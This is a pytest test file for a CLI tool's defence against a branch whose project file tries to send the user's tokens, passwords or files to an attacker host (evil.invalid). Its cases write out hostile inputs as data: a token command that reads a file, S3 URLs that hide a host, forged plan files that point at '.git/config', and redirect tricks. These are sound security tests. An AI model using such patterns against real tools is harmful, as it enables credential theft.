"""A branch that lies: what it can't get of a person's secrets, whichever command runs; and `trust` itself."""

import base64
import json
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from cli_runs import OnATerminal, Ran, Run

from reconciler.cli import main
from reconciler.embedded import Running

CANARY = "token-canary-77"
EVIL = "http://evil.invalid"


class Elsewhere(ThreadingHTTPServer):
    """All other machines at once, as a proxy stands for them; keeps what it was sent."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), Taker)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "CONNECT")


class Taker(BaseHTTPRequestHandler):
    server: Elsewhere

    def _take(self) -> None:
        length = int(self.headers.get("Content-Length", 0))
        body = self.rfile.read(length).decode(errors="replace")
        self.server.seen.append(f"{self.command} {self.path}\n{self.headers}\n{body}")
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


for method in METHODS:
    setattr(Taker, f"do_{method}", Taker._take)


@pytest.fixture
def elsewhere(monkeypatch: pytest.MonkeyPatch) -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"):
            monkeypatch.setenv(name, server.url)
        for name in ("no_proxy", "NO_PROXY", "all_proxy", "ALL_PROXY"):
            monkeypatch.delenv(name, raising=False)
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A configuration folder of this test's own."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path / "config" / "reconciler" / "trust.json"


def branch(folder: Path, server: str, *more: str) -> None:
    """The project file of a branch."""
    lines = "".join(f"  {line}\n" for line in more)
    (folder / "reconciler.yaml").write_text(
        "apiVersion: reconciler/v1\nkind: Project\nmetadata: {name: hall}\n"
        f"spec:\n  resources: [resources]\n  server: {{{server}}}\n{lines}"
    )


CONNECTING = (
    ("plan",),
    ("plan", "--out", "x.jsonl"),
    ("apply", "--auto-approve"),
    ("apply", "--dry-run"),
    ("status",),
    ("snapshot", "--out", "x.jsonl"),
    ("export", "--out", "x"),
    ("import", "Campaign/line-3", "c-1"),
    ("campaign", "list"),
    ("campaign", "stop", "line-3", "--auto-approve"),
    ("gateway", "state", "line-3", "gw-1"),
    ("package", "list"),
    ("package", "upload", "resources/firmware.bin"),
    ("doctor",),
)


@pytest.mark.parametrize("arguments", CONNECTING, ids=" ".join)
def test_no_command_sends_a_token_where_only_the_project_file_says(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere, arguments: tuple[str, ...]
) -> None:
    branch(folder, f"url: '{EVIL}', auth: {{tokenEnv: PULSE_TOKEN}}")
    monkeypatch.setenv("PULSE_TOKEN", CANARY)
    ran = run(*arguments)
    said = ran.out + ran.err
    assert ran.code == 1
    assert elsewhere.seen == []
    assert "reconciler.yaml:6:17" in said
    assert "environment variable PULSE_TOKEN would go to http://evil.invalid" in said
    assert "RECONCILER_TRUSTED_HOSTS=http://evil.invalid" in said
    assert CANARY not in said
    assert sorted(each.name for each in folder.iterdir()) == ["reconciler.yaml", "resources"]


@pytest.mark.parametrize("engine", ["httpx", "aiohttp"])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("RECONCILER_TRUSTED_HOSTS", "http://evil.invalid"),
        ("RECONCILER_TRUSTED_HOSTS", "pulse.example.com, HTTP://EVIL.invalid:80"),
        ("RECONCILER_URL", EVIL),
    ],
)
def test_it_goes_where_a_person_said(
    folder: Path,
    run: Run,
    monkeypatch: pytest.MonkeyPatch,
    elsewhere: Elsewhere,
    engine: str,
    name: str,
    value: str,
) -> None:
    branch(folder, f"url: '{EVIL}', engine: {engine}, auth: {{tokenEnv: PULSE_TOKEN}}")
    monkeypatch.setenv("PULSE_TOKEN", CANARY)
    monkeypatch.setenv(name, value)
    run("campaign", "list")
    assert elsewhere.seen
    assert CANARY in elsewhere.seen[-1]


@pytest.mark.parametrize(
    "entries",
    [
        "evil.invalid",
        "https://evil.invalid",
        "http://evil.invalid:81",
        "http://invalid",
        "http://x.evil.invalid",
        "*",
    ],
)
def test_it_goes_nowhere_for_an_entry_beside_it(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere, entries: str
) -> None:
    branch(folder, f"url: '{EVIL}', auth: {{tokenEnv: PULSE_TOKEN}}")
    monkeypatch.setenv("PULSE_TOKEN", CANARY)
    monkeypatch.setenv("RECONCILER_TRUSTED_HOSTS", entries)
    assert run("plan").code == 1
    assert elsewhere.seen == []


@pytest.mark.parametrize(
    ("environ", "server"),
    [
        ({"RECONCILER_TOKEN": CANARY}, f"url: '{EVIL}'"),
        ({"RECONCILER_USERNAME": "me", "RECONCILER_PASSWORD": CANARY}, f"url: '{EVIL}'"),
        ({"U": "me", "P": CANARY}, f"url: '{EVIL}', auth: {{usernameEnv: U, passwordEnv: P}}"),
        ({"RECONCILER_TOKEN_COMMAND": f"echo {CANARY}"}, f"url: '{EVIL}'"),
        ({"RECONCILER_TOKEN_FILE": "token"}, f"url: '{EVIL}'"),
        ({}, f"url: '{EVIL}', auth: {{tokenFile: token}}"),
        ({}, f"url: '{EVIL}', auth: {{tokenCommand: 'cat token; touch ran'}}"),
        ({"RECONCILER_TOKEN": CANARY}, "url: 'https://evil.invalid'"),
        ({"RECONCILER_TOKEN": CANARY}, "url: 'https://evil.invalid:8443/api'"),
        ({"RECONCILER_TOKEN": CANARY}, "url: 'http://2130706433'"),
        ({"RECONCILER_TOKEN": CANARY, "CI": "1"}, f"url: '{EVIL}'"),
    ],
)
def test_whatever_the_secret_and_the_spelling_are(
    folder: Path,
    run: Run,
    monkeypatch: pytest.MonkeyPatch,
    elsewhere: Elsewhere,
    environ: dict[str, str],
    server: str,
) -> None:
    branch(folder, server)
    (folder / "token").write_text(CANARY)
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    ran = run("plan", "--output", "json")
    assert ran.code == 1
    assert {each["code"] for each in json.loads(ran.out)["findings"]} & {"untrusted-host"}
    assert elsewhere.seen == []
    assert not (folder / "ran").exists()


def test_a_setting_is_a_secret_that_goes_to_the_server(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere
) -> None:
    """Also where the server wants no token, and where the secret is a file of this checkout."""
    branch(folder, f"url: '{EVIL}'")
    resources = folder / "resources" / "line.yaml"
    (folder / "resources" / "key").write_text("other-canary")
    settings = "  settings: {A: {fromEnv: LINE3_KEY}, B: {fromFile: key}}\n"
    resources.write_text(resources.read_text() + settings)
    monkeypatch.setenv("LINE3_KEY", CANARY)
    ran = run("apply", "--auto-approve", "--output", "json")
    assert ran.code == 1
    found = [each for each in json.loads(ran.out)["findings"] if each["severity"] == "error"]
    assert [(each["code"], each["line"]) for each in found] == [("untrusted-host", 22)] * 2
    assert elsewhere.seen == []
    monkeypatch.setenv("RECONCILER_TRUSTED_HOSTS", "http://evil.invalid")
    run("plan")
    assert elsewhere.seen != []


@pytest.mark.parametrize(
    "name", ["GITHUB_TOKEN", "RECONCILER_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK"]
)
def test_what_ci_uses_is_no_setting(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, config: Path, name: str
) -> None:
    """Whoever may read settings would read them on the server, trusted or not."""
    resources = folder / "resources" / "line.yaml"
    resources.write_text(resources.read_text() + f"  settings: {{A: {{fromEnv: {name}}}}}\n")
    monkeypatch.setenv(name, CANARY)
    with Running() as server:
        monkeypatch.setenv("RECONCILER_URL", server.url)
        ran = run("plan", "resources")
        assert ran.code == 1
        assert "error[reserved-variable]" in ran.err
        assert f"`reconciler trust add {name} {server.url}`" in ran.err
        assert run("validate", "resources").code == 0
        assert run("trust", "add", name, server.url, "--auto-approve").code == 0
        assert run("plan", "resources").code == 0


def test_an_overlay_says_no_more_than_a_resource(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    branch(folder, "url: 'embedded:'", "environments: {night: {overlays: [night.yaml]}}")
    (folder / "night.yaml").write_text(
        "apiVersion: reconciler/v1\nkind: Campaign\nmetadata: {name: line-3}\n"
        "spec: {settings: {A: {fromEnv: GITHUB_TOKEN}}}\n"
    )
    monkeypatch.setenv("GITHUB_TOKEN", CANARY)
    assert run("plan").code == 0
    ran = run("plan", "-e", "night")
    assert ran.code == 1
    assert "night.yaml:4:" in ran.err


def test_a_plan_file_says_no_more_than_resources(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere
) -> None:
    """It may have been made anywhere, and its digest isn't a signature."""
    resources = folder / "resources" / "line.yaml"
    resources.write_text(resources.read_text() + "  settings: {A: {fromEnv: LINE3_KEY}}\n")
    monkeypatch.setenv("LINE3_KEY", "x")
    monkeypatch.setenv("GITHUB_TOKEN", CANARY)
    with Running(record=True) as server:
        monkeypatch.setenv("RECONCILER_URL", server.url)
        assert run("plan", "resources", "--out", "plan.jsonl").code == 0
        plan = folder / "plan.jsonl"
        _forge(plan, '"fromEnv":"LINE3_KEY"', '"fromEnv":"GITHUB_TOKEN"')
        server.forget_calls()
        ran = run("apply", "--plan", "plan.jsonl")
        assert ran.code == 1
        assert "GITHUB_TOKEN" in ran.err
        assert [call for call in server.calls if call.method != "GET"] == []


@pytest.mark.parametrize("path", ["../outside", ".git/config", ".reconciler/x"])
@pytest.mark.parametrize("what", ["key", "package"])
def test_a_plan_file_names_files_of_the_project_only(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, path: str, what: str
) -> None:
    resources = folder / "resources" / "line.yaml"
    (folder / "resources" / "key").write_text("x")
    resources.write_text(resources.read_text() + "  settings: {A: {fromFile: key}}\n")
    outside = folder / path
    outside.parent.mkdir(exist_ok=True)
    outside.write_text("x" if what == "key" else "firmware")
    with Running(record=True) as server:
        monkeypatch.setenv("RECONCILER_URL", server.url)
        assert run("plan", "resources", "--out", "plan.jsonl").code == 0
        old = "resources/key" if what == "key" else "resources/firmware.bin"
        _forge(folder / "plan.jsonl", f'"{old}"', f'"{path}"')
        server.forget_calls()
        ran = run("apply", "--plan", "plan.jsonl")
        assert ran.code == 4
        assert "leads " in ran.err
        assert [call for call in server.calls if call.method != "GET"] == []


def _forge(plan: Path, old: str, new: str) -> None:
    import hashlib

    *lines, last = plan.read_bytes().splitlines(keepends=True)
    assert any(old.encode() in line for line in lines)
    lines = [line.replace(old.encode(), new.encode()) for line in lines]
    end = json.loads(last)
    end["digest"] = hashlib.sha256(b"".join(lines)).hexdigest()
    plan.write_bytes(b"".join(lines) + json.dumps(end, separators=(",", ":")).encode() + b"\n")


STATES = (
    ("plan",),
    ("state", "list"),
    ("state", "rm", "Campaign/x", "--auto-approve"),
    ("state", "unlock", "--force"),
    ("audit", "show"),
    ("audit", "verify"),
    ("doctor",),
    ("campaign", "stop", "line-3", "--auto-approve"),
)


@pytest.mark.parametrize("arguments", STATES, ids=" ".join)
def test_credentials_of_a_state_go_where_a_person_said(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere, arguments: tuple[str, ...]
) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "a")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
    monkeypatch.setenv("PGPASSWORD", CANARY)
    for url, host in (
        (f"s3://bucket/key?endpoint={EVIL}", "http://evil.invalid"),
        ("postgresql://evil.invalid/x", "postgresql://evil.invalid"),
    ):
        branch(folder, "url: 'embedded:'", f"state: {{url: '{url}'}}")
        ran = run(*arguments)
        assert ran.code == 1
        assert f"would go to {host}, which only the project file names" in ran.out + ran.err
        assert "RECONCILER_STATE" in ran.out + ran.err
    assert elsewhere.seen == []


@pytest.mark.parametrize(
    "url",
    [
        f"s3://bucket/key?aws_endpoint={EVIL}",
        f"s3://bucket/key?endpoint_url={EVIL}",
        "s3://bucket/key?container_credentials_full_uri=http://evil.invalid",
        "s3://bucket/key?metadata_endpoint=http://evil.invalid",
        "s3://bucket/key?region=x.evil.invalid/%23",
        "s3://bucket/key?region=evil.invalid",
        "s3://evil.invalid%2F/key",
        "s3://bucket/key?endpoint=http://u:p@evil.invalid",
        "s3://bucket/key?endpoint=ftp://evil.invalid",
    ],
)
def test_an_s3_url_hides_no_host(folder: Path, run: Run, elsewhere: Elsewhere, url: str) -> None:
    branch(folder, "url: 'embedded:'", f"state: {{url: '{url}'}}")
    ran = run("plan")
    assert ran.code == 1
    assert "s3: URL of the state" in ran.err or "error[url-with-credentials]: state.url holds" in ran.err
    assert elsewhere.seen == []


def test_nothing_is_said_to_validate_and_to_plan_on_a_snapshot(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere
) -> None:
    branch(
        folder,
        f"url: '{EVIL}', auth: {{tokenCommand: 'touch ran'}}",
        "state: {url: 'postgresql://evil.invalid/x'}",
    )
    assert run("validate").code == 0
    with Running() as server:
        assert run("snapshot", "--out", "live.jsonl", "--url", server.url, "--state", "file:x.json").code == 1
        monkeypatch.setenv("RECONCILER_TOKEN", "t")
        assert run("snapshot", "--out", "live.jsonl", "--url", server.url, "--state", "file:x.json").code == 0
        monkeypatch.delenv("RECONCILER_TOKEN")
        branch(folder, f"url: '{server.url}', auth: {{tokenCommand: 'touch ran'}}")
        assert run("plan", "--snapshot", "live.jsonl").code == 0
    assert not (folder / "ran").exists()
    assert elsewhere.seen == []


def test_a_command_runs_once_it_is_allowed_and_only_that_one(folder: Path, run: Run, config: Path) -> None:
    with Running(token=CANARY) as server:
        branch(folder, f"url: '{server.url}', auth: {{tokenCommand: 'echo {CANARY}; touch ran'}}")
        ran = run("plan")
        assert (ran.code, (folder / "ran").exists()) == (1, False)
        assert "reconciler.yaml:6:" in ran.err
        assert "untrusted-command" in ran.err
        assert CANARY not in ran.err
        assert run("trust", "add", "--auto-approve").code == 0
        assert run("plan").code == 0
        (folder / "ran").unlink()
        branch(folder, f"url: '{server.url}', auth: {{tokenCommand: 'echo {CANARY}; touch ran; touch more'}}")
        assert run("plan").code == 1
        assert not (folder / "ran").exists()


def test_a_command_of_one_project_is_not_that_of_another(folder: Path, run: Run, config: Path) -> None:
    with Running(token=CANARY) as server:
        branch(folder, f"url: '{server.url}', auth: {{tokenCommand: 'echo {CANARY}'}}")
        assert run("trust", "add", "--auto-approve").code == 0
        other = folder / "other.yaml"
        other.write_text((folder / "reconciler.yaml").read_text())
        assert run("plan", "--project", "other.yaml").code == 1
        assert run("plan").code == 0


def test_a_pair_is_trusted_for_that_secret_and_that_host(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere, config: Path
) -> None:
    monkeypatch.setenv("PULSE_TOKEN", CANARY)
    monkeypatch.setenv("OTHER", "other")
    branch(folder, f"url: '{EVIL}', auth: {{tokenEnv: PULSE_TOKEN}}")
    assert run("trust", "add", "PULSE_TOKEN", EVIL, "--auto-approve").code == 0
    run("campaign", "list")
    assert CANARY in elsewhere.seen[-1]
    elsewhere.seen.clear()
    for server in (
        f"url: '{EVIL}', auth: {{tokenEnv: OTHER}}",
        f"url: '{EVIL}:81', auth: {{tokenEnv: PULSE_TOKEN}}",
        "url: 'http://more.evil.invalid', auth: {tokenEnv: PULSE_TOKEN}",
    ):
        branch(folder, server)
        assert run("campaign", "list").code == 1
    assert elsewhere.seen == []


def test_a_person_on_a_terminal_is_asked_once(folder: Path, config: Path, on_a_terminal: OnATerminal) -> None:
    with Running(token=CANARY) as server:
        branch(folder, f"url: '{server.url}', auth: {{tokenCommand: 'echo {CANARY}'}}")
        with on_a_terminal(folder, "plan") as terminal:
            terminal.until("Type 'yes': ")
            assert "reconciler.yaml:6:" in terminal.said
            assert f"run `echo {CANARY}` for {folder / 'reconciler.yaml'}" in terminal.said
            assert str(config) in terminal.said
            terminal.type("no\n")
            assert terminal.end()[0] == 1
        assert not config.exists()
        with on_a_terminal(folder, "plan") as terminal:
            terminal.until("Type 'yes': ")
            terminal.type("yes\n")
            assert terminal.end()[0] == 0
        with on_a_terminal(folder, "campaign", "list") as terminal:
            assert terminal.end()[0] == 0
            assert "Type 'yes'" not in terminal.said


def test_the_grants_of_a_branch_are_worth_nothing(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, elsewhere: Elsewhere
) -> None:
    """As where HOME is the checkout."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "home"))
    monkeypatch.setenv("PULSE_TOKEN", CANARY)
    branch(folder, f"url: '{EVIL}', auth: {{tokenEnv: PULSE_TOKEN}}")
    planted = folder / "home" / "reconciler" / "trust.json"
    planted.parent.mkdir(parents=True)
    planted.write_text(
        json.dumps({"formatVersion": 1, "trusted": [{"secret": "env:PULSE_TOKEN", "host": EVIL}]})
    )
    planted.chmod(0o600)
    assert run("plan").code == 1
    ran = run("trust", "list")
    assert ran.code == 1
    assert "outside of the project" in ran.err
    assert elsewhere.seen == []


# --- the command ---------------------------------------------------------------------------------


def document(ran: Ran) -> dict[str, object]:
    assert ran.code == 0, ran.err
    made: dict[str, object] = json.loads(ran.out)
    return made


def test_what_was_allowed_is_listed_and_taken_back(folder: Path, run: Run, config: Path) -> None:
    assert run("trust", "list").out == f"0 grants in {config}.\n"
    assert run("trust", "add", "PULSE_TOKEN", "pulse.example.com", "--auto-approve").code == 0
    assert run("trust", "add", "postgresql", "postgresql://db.example.com:5433", "--auto-approve").code == 0
    assert run("trust", "add", "file:key", "http://[2001:DB8::1]:8080", "--auto-approve").code == 0
    listed = document(run("trust", "list", "--output", "json"))
    assert listed["file"] == str(config)
    trusted = listed["trusted"]
    assert isinstance(trusted, list)
    assert [(each["secret"], each["host"]) for each in trusted] == [
        ("env:PULSE_TOKEN", "https://pulse.example.com"),
        ("postgresql", "postgresql://db.example.com:5433"),
        (f"file:{folder / 'key'}", "http://[2001:db8::1]:8080"),
    ]
    again = document(run("trust", "add", "PULSE_TOKEN", "PULSE.example.com.", "--yes", "--output", "json"))
    assert (again["outcome"], again["grants"]) == ("not needed", [])
    assert run("trust", "remove", trusted[0]["id"], "db.example.com:5433").code == 0
    left = document(run("trust", "list", "--output", "json"))
    assert left["trusted"] == [trusted[2]]
    ran = run("trust", "remove", "nobody")
    assert (ran.code, "trust list" in ran.err) == (1, True)


@pytest.mark.parametrize(
    "arguments",
    [
        ("trust", "add", "PULSE_TOKEN"),
        ("trust", "add", "A", "b", "c"),
        ("trust", "add", "A", "*.example.com"),
        ("trust", "add", "A", "https://u:p@example.com"),
        ("trust", "add", "A", "ftp://example.com"),
        ("trust", "add", "A", "0x7f.1"),
        ("trust", "add", "A", ""),
        ("trust", "add", "mail:A", "example.com"),
        ("trust", "remove"),
    ],
    ids=" ".join,
)
def test_words_that_mean_nothing_are_refused(
    folder: Path, run: Run, config: Path, arguments: tuple[str, ...]
) -> None:
    assert run(*arguments, *(("--yes",) if "add" in arguments else ())).code == 64
    assert not config.exists()


def test_nobody_is_asked_without_a_terminal(folder: Path, run: Run, config: Path) -> None:
    ran = run("trust", "add", "A", "example.com")
    assert (ran.code, config.exists()) == (1, False)
    assert "--auto-approve" in ran.err


def test_what_the_project_asks_for_is_all_that_is_added(
    folder: Path, run: Run, config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    resources = folder / "resources" / "line.yaml"
    resources.write_text(resources.read_text() + "  settings: {A: {fromEnv: LINE3_KEY}}\n")
    monkeypatch.setenv("PULSE_TOKEN", "t")
    monkeypatch.setenv("LINE3_KEY", "k")
    branch(
        folder,
        "url: 'https://pulse.example.com', auth: {tokenEnv: PULSE_TOKEN}",
        "environments: {test: {server: {url: 'https://test.example.com'}}}",
    )

    def added(*more: str) -> list[str]:
        made = document(run("trust", "add", "--auto-approve", "--output", "json", *more))["grants"]
        assert isinstance(made, list)
        return [f"{each['secret']} {each['host']}" for each in made]

    assert added() == ["env:LINE3_KEY https://pulse.example.com", "env:PULSE_TOKEN https://pulse.example.com"]
    assert added() == []
    assert added("-e", "test") == [
        "env:LINE3_KEY https://test.example.com",
        "env:PULSE_TOKEN https://test.example.com",
    ]


def test_the_library_asks_nobody(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from reconciler.app import open_project, plan
    from reconciler.errors import InvalidInput

    branch(folder, f"url: '{EVIL}', auth: {{tokenEnv: PULSE_TOKEN}}")
    environ = {**os.environ, "PULSE_TOKEN": CANARY}
    with pytest.raises(InvalidInput) as caught:
        plan(open_project(folder, environ=environ))
    assert [each.code for each in caught.value.findings if each.is_error] == ["untrusted-host"]


def test_a_redirect_is_not_followed_with_a_token(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    taker = Elsewhere()
    sender = Elsewhere()
    sender.RequestHandlerClass = type("Sender", (Taker,), {"do_GET": _redirecting(taker.url)})
    threads = [
        threading.Thread(target=each.serve_forever, kwargs={"poll_interval": 0.02})
        for each in (taker, sender)
    ]
    for thread in threads:
        thread.start()
    try:
        for engine in ("httpx", "aiohttp"):
            for auth in (
                {"RECONCILER_TOKEN": CANARY},
                {"RECONCILER_USERNAME": "u", "RECONCILER_PASSWORD": CANARY},
            ):
                branch(folder, f"url: '{sender.url}', engine: {engine}")
                with monkeypatch.context() as patch:
                    for name, value in auth.items():
                        patch.setenv(name, value)
                    assert run("campaign", "list").code == 1
        encoded = base64.b64encode(f"u:{CANARY}".encode()).decode()
        assert any(CANARY in each for each in sender.seen)
        assert any(encoded in each for each in sender.seen)
        assert taker.seen == []
    finally:
        for server, thread in zip((taker, sender), threads, strict=True):
            server.shutdown()
            thread.join()
            server.server_close()


def _redirecting(to: str):
    def answer(handler: Taker) -> None:
        handler.server.seen.append(f"{handler.path}\n{handler.headers}")
        handler.send_response(307)
        handler.send_header("Location", f"{to}{handler.path}")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    return answer


def test_main_is_the_same_without_a_project(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without a project file nobody but a person says anything."""
    with Running(token=CANARY) as server:
        monkeypatch.setenv("RECONCILER_TOKEN", CANARY)
        assert main(["plan", "resources", "--url", server.url]) == 0
